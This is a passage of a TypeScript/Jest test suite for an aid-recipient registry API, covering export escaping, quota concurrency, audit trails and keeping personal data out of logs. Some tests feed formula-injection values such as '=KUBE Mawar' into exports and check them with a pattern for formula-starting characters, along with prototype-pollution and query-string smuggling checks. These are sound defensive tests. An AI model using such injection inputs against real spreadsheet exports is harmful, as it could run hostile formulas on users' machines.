        `/recipients?searchTokens=zulaikha`,
        `/recipients?${encodeURIComponent('q[]')}=zulaikha`,
        `/recipients?Q=zulaikha`,
      ]) {
        const response = await get(path, 'viewer')(api);
        expect({ path, status: response.status }).toEqual({ path, status: expect.any(Number) });
        expect([400, 403]).toContain(response.status);
        expect(response.body).not.toHaveProperty('total');
        expect(JSON.stringify(response.body)).not.toMatch(/Zulaikha|6472056407880042/i);
      }
    });

    it('gets counts without items, with every filter it may use', async () => {
      const response = await get('/recipients?standing=active&year=2025&sort=name', 'viewer')(api);
      expect(response.status).toBe(200);
      expect(Object.keys(response.body as object).sort()).toEqual(['limit', 'offset', 'total']);
    });
  });

  describe('exports hold no formula a spreadsheet would run', () => {
    beforeAll(async () => {
      for (const name of FORMULA_NAMES) {
        await register(api, rseBody({ name, businessType: name.replace(/Siti/, 'Warung') }));
      }
      await register(
        api,
        kubeBody({
          groupName: '=KUBE Mawar',
          members: kubeMembers().map((member, n) => ({ ...member, name: FORMULA_NAMES[n] })),
        }),
      );
    });

    it.each([',', ';'])(
      'CSV with %s: every cell that would start a formula is made text',
      async (delimiter) => {
        const head = await api.headPosition();
        const response = await get(
          `/recipients/export?format=csv&delimiter=${encodeURIComponent(delimiter)}&minPosition=${head}`,
        )(api);
        expect(response.status).toBe(200);
        const rows = csvRows(response.text, delimiter);
        const cells = rows.flat();
        expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
        for (const name of FORMULA_NAMES) expect(cells).toContain(`'${name}`);
        expect(cells).toContain("'=KUBE Mawar");
        // Each row has as many cells as the header: no name broke out of its cell.
        expect(new Set(rows.map((row) => row.length))).toEqual(new Set([rows[0].length]));
      },
    );

    it('xlsx: names are text cells as written, and no cell is a formula', async () => {
      const head = await api.headPosition();
      const response = await asBuffer(
        get(`/recipients/export?format=xlsx&minPosition=${head}`)(api),
      );
      expect(response.status).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(Uint8Array.from(response.body as Buffer).buffer);
      const sheet = workbook.worksheets[0];
      const texts: string[] = [];
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeUndefined();
          if (typeof cell.value === 'string') texts.push(cell.value);
        }),
      );
      for (const name of FORMULA_NAMES) expect(texts).toContain(name);
    });
  });

  describe('a registry of 1,500 recipients exported', () => {
    let head: bigint;

    beforeAll(async () => {
      const batch = 50;
      for (let done = 0; done < 1_500; done += batch) {
        await Promise.all(
          Array.from({ length: batch }, () =>
            post('/recipients')(api)
              .send(rseBody({ name: 'Sri Rahayu Ningsih' }))
              .expect(201),
          ),
        );
      }
      head = await api.headPosition();
    }, 120_000);

    const exported = async (format: 'csv' | 'xlsx') => {
      const { result: response, slowestMs } = await slowestLivenessDuring(api, () =>
        asBuffer(get(`/recipients/export?format=${format}&minPosition=${head}`, 'auditor')(api)),
      );
      expect(response.status).toBe(200);
      expect((response.body as Buffer).length).toBeGreaterThan(100_000);
      expect(slowestMs).toBeLessThan(LIVENESS_BOUND_MS);
    };

    it('as CSV, serves other requests meanwhile', () => exported('csv'));

    // Built and zipped in JavaScript: without a pause every few rows this stalled 350–400 ms.
    it('as xlsx, serves other requests meanwhile', () => exported('xlsx'));
  });

  it('disburses 1.005 kg × 1,000 and 0.07 l × 100 as exactly Rp1,005 and Rp7', async () => {
    const kubeId = await register(api, kubeBody());
    const items = [
      { description: 'Gula pasir', quantity: 1.005, unit: 'kg', unitPriceRupiah: 1_000 },
      { description: 'Minyak goreng', quantity: 0.07, unit: 'l', unitPriceRupiah: 100 },
      { description: 'Kopi bubuk', quantity: 0.1, unit: 'kg', unitPriceRupiah: 10 },
      { description: 'Teh', quantity: 0.1, unit: 'kg', unitPriceRupiah: 10 },
      { description: 'Garam', quantity: 0.1, unit: 'kg', unitPriceRupiah: 10 },
      { description: 'Mesin jahit', quantity: 1, unitPriceRupiah: 19_998_985 },
    ];
    const response = await post(`/recipients/${kubeId}/disbursements`)(api).send(
      disbursementBody({ disbursedOn: '2025-09-01', items: items as never }),
    );
    expect({ status: response.status, body: response.body as unknown }).toMatchObject({
      status: 201,
      body: { valueRupiah: 20_000_000 },
    });
  });

  it('keeps a year’s rule when its target is lowered while aid is disbursed', async () => {
    const programme = await get('/programme', 'viewer')(api).expect(200);
    expect(programme.body).toBeDefined();
    const year = 2024;
    const ceilings = { RSE: 5_000_000, KUBE: 20_000_000 };
    const define = (rse: number) =>
      as(
        'put',
        `/programme/years/${year}`,
        'admin',
      )(api).send({
        targets: { RSE: rse, KUBE: 200 },
        ceilingsRupiah: ceilings,
        allocationPerRegency: { RSE: null },
        reason: 'Revisi target',
      });
    let held = 0;
    expect((await define(held + 3)).status).toBe(200);
    for (let round = 0; round < 6; round++) {
      const recipientId = await register(api, rseBody());
      const [lowered, disbursed] = await Promise.all([
        define(held),
        post(`/recipients/${recipientId}/disbursements`)(api).send(
          disbursementBody({ year, disbursedOn: '2024-08-01' }),
        ),
      ]);
      const outcome = { lowered: lowered.status, disbursed: disbursed.status };
      // Exactly one of the two holds, the other refused by the rule.
      expect([
        { lowered: 200, disbursed: 409 },
        { lowered: 409, disbursed: 201 },
      ]).toContainEqual(outcome);
      if (outcome.disbursed === 201) {
        expect((lowered.body as { code: string }).code).toBe('TARGET_BELOW_DISBURSED');
        held++;
      } else {
        expect((disbursed.body as { code: string }).code).toBe('QUOTA_EXHAUSTED');
      }
      expect((await define(held + 1)).status).toBe(200);
    }
    const head = await api.headPosition();
    const progress = await get(
      `/quota-progress?year=${year}&minPosition=${head}`,
      'auditor',
    )(api).expect(200);
    expect(JSON.stringify(progress.body)).toContain(`"target":${held + 1}`);
    const verify = await get('/audit/verify', 'auditor')(api);
    expect({ status: verify.status, ok: (verify.body as { ok?: boolean }).ok }).toEqual({
      status: 200,
      ok: true,
    });
  }, 60_000);

  it('defines a year from targets of -0 as 0, and a repeat writes nothing', async () => {
    const body = JSON.stringify(yearBody()).replace('"KUBE":120', '"KUBE":-0');
    const first = await putYear(2031, body)(api);
    expect(first.status).toBe(200);
    const before = await api.headPosition();
    const again = await putYear(2031, yearBody({ targets: { RSE: 300, KUBE: 0 } }))(api);
    expect({ status: again.status, body: again.body as unknown }).toEqual({
      status: 200,
      body: { year: 2031, position: '0' },
    });
    expect(await api.headPosition()).toBe(before);
    const programme = await get(`/programme?minPosition=${before}`, 'viewer')(api).expect(200);
    const { years } = programme.body as {
      years: { year: number; kinds: { kind: string; target: number }[] }[];
    };
    const kube = years.find((y) => y.year === 2031)?.kinds.find((k) => k.kind === 'KUBE');
    expect(Object.is(kube?.target, 0)).toBe(true);
    expect(Object.prototype).not.toHaveProperty('polluted');
    expect(Object.prototype).not.toHaveProperty('isAdmin');
  });

  it('corrects a deceased woman’s name (a record, not aid): the audit trail records it', async () => {
    const response = await post(`/recipients/${ids.deceasedId}/detail-corrections`)(api).send({
      reason: REASON,
      name: 'Almarhumah Rukmini Sari',
    });
    expect({ status: response.status, body: response.body as unknown }).toMatchObject({
      status: 200,
      body: { position: expect.stringMatching(/^\d+$/) },
    });
    const { position } = response.body as { position: string };
    const trail = await get(
      `/audit/trail?recipientId=${ids.deceasedId}&minPosition=${position}`,
      'auditor',
    )(api).expect(200);
    // The trail names the field, never its value (a person's data may be erased).
    expect(JSON.stringify(trail.body)).toContain('Details corrected: name changed');
    expect(JSON.stringify(trail.body)).not.toContain('Almarhumah Rukmini Sari');
  });

  // Nest drops a query string no parameter declares: a NIK in the URL of a correction was taken.
  it('refuses NIKs in the query string of a NIK correction, writing nothing', async () => {
    const nik = nextNik('female');
    const recipientId = await register(api, rseBody({ nik }));
    const newNik = nextNik('female');
    const before = await api.headPosition();
    const response = await post(
      `/recipients/${recipientId}/nik-corrections?nik=${nik}&newNik=${newNik}`,
    )(api).send({ reason: REASON, newNik });
    expect({ status: response.status, field: errorBody(response).errors?.[0]?.field }).toEqual({
      status: 400,
      field: 'nik',
    });
    expect(await api.headPosition()).toBe(before);
  });

  it('never wrote a NIK or a name this spec sent to a log line', () => {
    expect(logs.length).toBeGreaterThan(100);
    const secrets = [
      SECRET_NIK,
      SECRET_NIK.slice(4, 12),
      SECRET_NAME,
      'Zulaikha',
      ids.rseNik,
      ids.otherNik,
      ...ids.members.map((member) => member.nik),
      ...FORMULA_NAMES,
      'Almarhumah',
    ];
    for (const line of logs) {
      for (const secret of secrets) expect(line).not.toContain(secret);
    }
  });
});
